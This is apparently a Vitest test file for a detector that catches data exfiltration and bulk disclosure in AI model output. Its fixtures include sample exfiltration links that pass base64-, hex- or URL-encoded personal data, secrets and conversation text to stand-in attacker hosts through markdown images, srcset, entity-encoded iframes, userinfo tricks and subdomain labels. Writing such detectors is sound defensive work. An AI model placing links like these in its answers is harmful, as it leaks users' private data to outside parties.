import { describe, expect, it } from 'vitest';
import { createDataExfiltrationDetector } from '../../../src/detectors/data-exfiltration.js';
import { findLinks } from '../../../src/detectors/output/link-extraction.js';
import type { Detector, Finding } from '../../../src/detectors/types.js';
import { ScanEngine } from '../../../src/engine/scan-engine.js';
import { defaultPolicySet, parsePolicySet } from '../../../src/policy/load-policy.js';
import { DEFAULT_OUTPUT_GUARDS } from '../../../src/policy/default-policy.js';
import { compiledPolicy } from '../compiled-policy-fixture.js';
import { githubToken } from '../secret-fixtures.js';
import { outputInput } from './output-guard-support.js';

const guards = structuredClone(DEFAULT_OUTPUT_GUARDS);
guards.exfiltration.allowedDomains = ['kestrel.example'];
const detector = createDataExfiltrationDetector(compiledPolicy({ outputGuards: guards })) as Detector;

function exfil(text: string, context?: Parameters<typeof outputInput>[1]): Finding[] {
  return detector.detect(outputInput(text, context)).filter((f) => f.ruleId.startsWith('exfil'));
}

const b64 = (s: string): string => Buffer.from(s).toString('base64');

describe('exfiltration links', () => {
  it('flags a markdown image carrying base64 text; the span is the whole image', () => {
    const image = `![status](https://collector.evil-analytics.net/pixel.png?d=${b64('user asked about the merger with Halcyon Corp')})`;
    const text = `Here is the summary.\n\n${image}\n\nAnything else?`;
    const [f] = exfil(text);
    expect(f).toMatchObject({ type: 'DATA_EXFILTRATION', ruleId: 'exfil-auto-loading-url' });
    expect(f!.confidence).toBeGreaterThanOrEqual(0.85);
    expect(text.slice(f!.spans[0]!.start, f!.spans[0]!.end)).toBe(image);
    expect(f!.description).not.toContain('evil');
  });

  it('flags personal data in a query, path or fragment', () => {
    for (const url of [
      'https://log.attacker.io/c?email=jane.doe%40example.com',
      'https://log.attacker.io/jane.doe@example.com/x.png',
      'https://log.attacker.io/x.png#card=4111111111111111',
    ]) {
      const [f] = exfil(`![a](${url})`);
      expect(f?.confidence, url).toBeGreaterThanOrEqual(0.9);
      expect(f?.description).toMatch(/personal data \((EMAIL_ADDRESS|CREDIT_CARD)\)/);
    }
  });

  it('a credential in a link carries the secret action (BLOCK) on output only', () => {
    const text = `[click](https://paste.attacker.io/save?k=${githubToken('ghp', 3)})`;
    const [f] = exfil(text);
    expect(f).toMatchObject({ severity: 'CRITICAL', action: 'BLOCK' });
    expect(detector.detect(outputInput(text, undefined, 'INPUT'))[0]?.action).toBeUndefined();
  });

  it('flags conversation text from the input', () => {
    const input = 'My diagnosis is early stage lymphoma and my oncologist is Dr Patel at St Mary hospital.';
    const [f] = exfil('<img src="https://img.cdn-attacker.com/a.gif?q=diagnosis+is+early+stage+lymphoma+and+my+oncologist">', { inputContent: input });
    expect(f?.description).toContain('conversation text');
  });

  it('flags data smuggled in subdomain labels', () => {
    const host = Buffer.from('jane.doe@corp.example').toString('hex');
    expect(exfil(`![x](https://${host}.dns.attacker.net/p.png)`)[0]?.description).toContain('host name');
  });

  it('flags HTML tags written with entities and srcset', () => {
    const tag = `<img srcset="https://a.attacker.org/x.png?d=${b64('the secret project codename is bluebird')} 2x" alt="">`;
    expect(exfil(`ok ${tag}`)[0]?.spans[0]).toEqual({ start: 3, end: 3 + tag.length });
    expect(exfil('<iframe src="https&#58;//a.attacker.org/?d=am9obiBzbWl0aCBsaXZlcyBpbiBsb25kb24gd2l0aCBoaXMgY2F0"></iframe>')).toHaveLength(1);
  });

  it('passes data-free links, documentation links and allow-listed domains', () => {
    const benign = [
      'See [the docs](https://docs.python.org/3/library/json.html) and ![logo](https://example.org/logo.png).',
      'Try https://developer.mozilla.org/en-US/search?q=how+to+use+fetch+with+abort+signals for details.',
      `![chart](https://charts.kestrel.example/render?d=${b64('quarterly revenue by region for the board')})`,
      'Download from https://releases.example.net/v2.4.1/tool-linux-amd64.tar.gz',
      '[issue](https://github.com/org/repo/issues/42#issuecomment-123456)',
    ];
    for (const text of benign) expect(exfil(text), text).toEqual([]);
  });

  it('a search link with a sentence stays below the default minConfidence; the same in an image counts', () => {
    const q = 'https://search.example.com/search?q=how+to+bake+sourdough+bread+at+home';
    expect(exfil(`[search](${q})`)[0]?.confidence ?? 0).toBeLessThan(0.5);
    expect(exfil(`![search](${q})`)[0]?.confidence ?? 0).toBeGreaterThanOrEqual(0.5);
  });

  it('does not treat userinfo tricks as the allow-listed host', () => {
    expect(exfil(`![x](https://docs.python.org@evil.example.net/p.png?d=${b64('user password is hunter2 for the vpn')})`)).toHaveLength(1);
  });

  it('finds every kind of link with its full span', () => {
    const text = '![a](https://x.test/a.png "t") [b](https://x.test/b) <img src=https://x.test/c> https://x.test/d.\n[r]: https://x.test/e\n![i][r]';
    const links = findLinks(text);
    expect(links.map((l) => [l.kind, l.url, l.autoLoads])).toEqual([
      ['markdown-image', 'https://x.test/a.png', true],
      ['markdown-link', 'https://x.test/b', false],
      ['html-tag', 'https://x.test/c', true],
      ['bare-url', 'https://x.test/d', false],
      ['markdown-reference', 'https://x.test/e', true],
    ]);
    expect(text.slice(links[0]!.span.start, links[0]!.span.end)).toBe('![a](https://x.test/a.png "t")');
  });
});

describe('bulk disclosure', () => {
  const bulk = (text: string): Finding[] => detector.detect(outputInput(text)).filter((f) => f.ruleId.startsWith('bulk'));

  it('flags more emails than allowed, with the policy action', () => {
    const emails = Array.from({ length: 12 }, (_, i) => `user${i}.name@corp-mail.example.com`).join(', ');
    const [f] = bulk(`Here are all the addresses: ${emails}`);
    expect(f).toMatchObject({ ruleId: 'bulk-pii', action: 'BLOCK' });
    expect(f!.spans).toHaveLength(12);
    expect(bulk(`Contact ${emails.split(', ').slice(0, 3).join(', ')}.`)).toEqual([]);
  });

  it('flags a table of personal records', () => {
    const rows = Array.from({ length: 6 }, (_, i) => `| Person ${i} | person${i}@mail.example.com | +1 415 555 01${10 + i} |`).join('\n');
    const findings = bulk(`| name | email | phone |\n|---|---|---|\n${rows}`);
    expect(findings.map((f) => f.ruleId)).toContain('bulk-records');
  });

  it('flags many credentials', () => {
    const keys = ['AKIAIOSFODNN7EXAMPLF', githubToken('ghp', 1), githubToken('gho', 2), 'sk_live_4eC39HqLyjWDarjtT1zdp7dc'];
    const text = keys.map((k, i) => `KEY_${i}=${k}`).join('\n');
    const findings = bulk(text);
    expect(findings.map((f) => f.ruleId)).toContain('bulk-credentials');
  });

  it('is OUTPUT only', () => {
    const emails = Array.from({ length: 12 }, (_, i) => `user${i}@corp-mail.example.com`).join(' ');
    expect(detector.detect(outputInput(emails, undefined, 'INPUT')).filter((f) => f.ruleId.startsWith('bulk'))).toEqual([]);
  });
});

describe('through the engine with the default policy', () => {
  it('REDACT removes the exfiltrating image and keeps the rest of the markdown intact', () => {
    const engine = new ScanEngine(defaultPolicySet({}));
    engine.warmUp(); // building detectors must not count against the scan's time budget
    const image = `![](https://stats.attacker.example/t.gif?u=${b64('the customer is Jane Roe, account 7734, overdue')})`;
    const answer = `# Summary\n\n- Revenue grew **12%**.\n- See [docs](https://docs.python.org/3/).\n\n${image}\n\n| a | b |\n|---|---|\n| 1 | 2 |\n`;
    const result = engine.scan({ tenantId: 'default', direction: 'OUTPUT', content: answer, policyId: '', deadline: 0 });
    expect(result.action).toBe('REDACT');
    expect(result.redactedContent).toBe(answer.replace(image, '[link removed]'));
  });

  it('the allow-list comes from the policy', () => {
    const set = parsePolicySet(
      'apiVersion: bulwark.dev/v1\nkind: Policy\nspec:\n  outputGuards:\n    exfiltration:\n      allowedDomains: ["*.attacker.example"]\n',
      'test.yaml',
      {},
    );
    const engine = new ScanEngine(set);
    engine.warmUp();
    const content = `![](https://stats.attacker.example/t.gif?u=${b64('the customer is Jane Roe, account 7734, overdue')})`;
    expect(engine.scan({ tenantId: 'default', direction: 'OUTPUT', content, policyId: '', deadline: 0 }).action).toBe('ALLOW');
  });
});
